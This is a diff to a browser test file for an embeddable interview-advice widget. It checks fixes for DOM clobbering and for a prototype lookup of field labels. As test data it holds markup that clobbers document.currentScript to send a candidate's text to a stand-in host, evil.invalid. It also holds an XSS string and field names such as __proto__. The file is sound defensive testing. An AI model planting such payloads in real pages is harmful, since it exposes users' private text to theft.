@@ -5,10 +5,11 @@ comment) through a sanitiser that strips scripts but keeps elements and their
 `name` and `id`. Such markup names properties of `document` ("DOM clobbering":
 `<img name="currentScript">` is what `document.currentScript` then returns),
 and the widget reads two of them: `document.currentScript`, for the server it
-asks by default, and `document.createElement`, for everything it draws. The
-tests marked xfail show what a new release of the widget must change
-(docs/widget.md says what a site can do meanwhile): its released files are
-served byte for byte, so a fix is a new release, never an edit.
+asks by default, and `document.createElement`, for everything it draws. Since
+release 1.1.5 it reads both from `Document.prototype`, where no element of the
+page can stand in for them; releases up to 1.1.4 read them from `document` and
+are served byte for byte, so docs/widget.md says what a site pinned to one can
+do, and the tests here check that it works.
 
 Also here: messages from other frames, which resize no advice iframe but the
 one that sent them; and what a hostile server answers (a refusal naming fields
@@ -31,19 +32,19 @@ pytestmark = [pytest.mark.server, pytest.mark.browser]
 #: An origin nobody serves: requests to it are answered by the test (`page.route`).
 EVIL = "http://evil.invalid"
 XSS = "<img src=x onerror=alert(1)>"
-#: A new release must read `document.currentScript` and `document.createElement`
-#: from `Document.prototype`, where no element of the page can stand in for them.
-NEEDS_A_RELEASE = (
-    "widget.js reads document.currentScript and document.createElement, which markup "
-    "of the page can name; a new widget release must read them from Document.prototype"
-)
+#: The last release that reads `document.currentScript` from `document`: what a site
+#: pinned to it (or to any before it) can do is tried with it.
+CLOBBERED = "widget-1.1.4.js"
 
 
-def _page(api: str, markup: str, widget: str, csp: str | None = None) -> tuple[str, dict]:
-    """A careers page: the widget's script, the page's own markup, the widget."""
+def _page(
+    api: str, markup: str, widget: str, csp: str | None = None, script: str = "widget.js"
+) -> tuple[str, dict]:
+    """A careers page: the widget's script (the latest, or `script` of the server), the
+    page's own markup, the widget."""
     html = (
         '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Careers</title>'
-        f'<script src="{api}/widget.js" defer></script></head><body><main>'
+        f'<script src="{api}/{script}" defer></script></head><body><main>'
         f'<section class="comments">{markup}</section>{widget}</main></body></html>'
     )
     headers = {"Content-Type": "text/html; charset=utf-8", "Cache-Control": "no-store"}
@@ -95,7 +96,6 @@ def _opened(open_page, html: str, headers: dict):
 PRESET = '<interview-advice stage="after" hours-since="3" plans="Ring Sam at home tonight">'
 
 
-@pytest.mark.xfail(strict=True, reason=NEEDS_A_RELEASE)
 def test_markup_naming_current_script_does_not_send_the_candidates_text_elsewhere(api, open_page):
     markup = f'<img name="currentScript" src="{EVIL}/collect/" alt="">'
     html, headers = _page(api, markup, PRESET + "</interview-advice>")
@@ -107,27 +107,27 @@ def test_markup_naming_current_script_does_not_send_the_candidates_text_elsewher
 
 
 def test_the_api_attribute_keeps_the_requests_at_the_server_whatever_the_markup(api, open_page):
-    """What a site can do until a new release: name the server in `api`."""
+    """What a site pinned to a release up to 1.1.4 can do: name the server in `api`."""
     markup = f'<img name="currentScript" src="{EVIL}/collect/" alt="">'
     widget = PRESET.replace("<interview-advice", f'<interview-advice api="{api}"')
-    html, headers = _page(api, markup, widget + "</interview-advice>")
+    html, headers = _page(api, markup, widget + "</interview-advice>", script=CLOBBERED)
     with _opened(open_page, html, headers) as (tab, stolen):
         expect(tab.page.locator("interview-advice section.results")).to_be_visible()
         assert stolen == []
 
 
 def test_a_sites_connect_src_keeps_the_requests_from_leaving(api, open_page):
-    """And the policy docs/widget.md gives: `connect-src` names the server only."""
+    """And the policy docs/widget.md gives: `connect-src` names the server only (the
+    release then asks the markup's address, and the browser blocks it)."""
     markup = f'<img name="currentScript" src="{EVIL}/collect/" alt="">'
     csp = f"default-src 'none'; script-src {api}; connect-src {api}; img-src 'self'"
-    html, headers = _page(api, markup, PRESET + "</interview-advice>", csp)
+    html, headers = _page(api, markup, PRESET + "</interview-advice>", csp, CLOBBERED)
     with _opened(open_page, html, headers) as (tab, stolen):
         alert = tab.page.locator("interview-advice [role=alert] p").first
         expect(alert).to_contain_text("could not be reached")
         assert stolen == []
 
 
-@pytest.mark.xfail(strict=True, reason=NEEDS_A_RELEASE)
 def test_markup_naming_create_element_does_not_stop_the_widget(api, open_page):
     markup = '<form name="createElement"></form>'
     html, headers = _page(api, markup, "<interview-advice></interview-advice>")
@@ -190,13 +190,13 @@ def test_a_refusal_naming_fields_in_markup_is_shown_as_text(api, open_page):
     assert tab.csp_violations() == []
 
 
-@pytest.mark.xfail(strict=True, reason="widget.js looks a field's label up in a plain object")
-def test_a_refusal_naming_a_field_like_an_objects_own_is_shown_by_that_name(api, open_page):
-    """`constructor` is looked up in the labels' object and found on its prototype: the
-    widget said `function Object() { [native code] } – …`. A new release must look
-    labels up with `Object.hasOwn`."""
+@pytest.mark.parametrize("field", ["constructor", "__proto__", "state.toString"])
+def test_a_refusal_naming_a_field_like_an_objects_own_is_shown_by_that_name(api, open_page, field):
+    """Releases up to 1.1.4 looked `constructor` up in the labels' object and found it on
+    its prototype: the widget said `function Object() { [native code] } – …`. Since 1.1.5
+    a label is only a table's own (`Object.hasOwn`)."""
     problem = {"type": "about:blank", "title": "Unprocessable Content", "status": 422}
-    problem["errors"] = {"constructor": ["Unknown field."]}
+    problem["errors"] = {field: ["Unknown field."]}
     tab = open_page(f"{api}/embed")
     page = tab.page
     page.route(
@@ -207,4 +207,4 @@ def test_a_refusal_naming_a_field_like_an_objects_own_is_shown_by_that_name(api,
     )
     widget = page.locator("interview-advice")
     widget.get_by_role("button", name="Get advice").click()
-    expect(widget.locator("[role=alert] li")).to_have_text(["constructor – Unknown field."])
+    expect(widget.locator("[role=alert] li")).to_have_text([f"{field} – Unknown field."])
